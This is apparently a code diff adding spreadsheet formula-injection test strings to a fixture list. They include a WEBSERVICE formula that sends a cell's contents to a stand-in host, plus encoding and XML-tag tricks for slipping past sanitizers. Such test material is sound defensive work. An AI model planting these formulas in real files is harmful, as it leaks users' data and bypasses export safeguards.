@@ -24,4 +24,13 @@ FORMULAS = [
     "'=1+1",
     '"=1+1"',
     "#REF!",
+    '=WEBSERVICE("http://example.invalid/"&A1)',
+    "=IMPORTXML(A1,B1)",
+    "=1+1\x00",
+    "\ufeff=1+1",
+    "_x003D_1+1",
+    "<f>1+1</f>",
+    "</v></c><c><f>1+1</f></c>",
+    "=1+1;张三",
+    "%0A=1+1",
 ]
